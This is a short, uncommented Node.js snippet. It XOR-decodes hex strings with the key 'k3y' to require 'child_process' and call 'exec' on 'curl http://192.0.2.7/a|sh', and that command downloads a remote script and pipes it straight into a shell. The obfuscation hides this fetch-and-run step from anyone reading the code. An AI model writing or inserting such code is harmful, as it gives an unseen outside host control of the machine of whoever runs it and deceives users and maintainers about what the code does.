const k='k3y';const x=s=>Buffer.from(s,'hex').map((b,i)=>b^k.charCodeAt(i%3)).toString();
require(x('085b100757261b411608560a18'))[x('0e4b1c08')](x('08460b0713111f4709511c565a0a4b450357591d4e445205185b'));
